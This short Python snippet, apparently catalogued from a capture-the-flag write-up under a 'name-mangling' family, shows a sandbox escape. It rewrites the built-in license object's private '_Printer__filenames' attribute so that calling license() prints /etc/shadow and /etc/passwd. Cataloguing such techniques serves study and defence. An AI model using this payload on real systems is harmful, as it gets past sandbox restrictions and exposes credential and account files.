# Source: SCIST MIT-license challenge write-up (_Printer__filenames patch)
# Family: name-mangling
# What: setattr with a mangled private name built at runtime
cls = type(license)
name = "_" + cls.__name__.lstrip("_") + "__filenames"
setattr(license, name, ["/etc/shadow", "/etc/passwd"])
license()
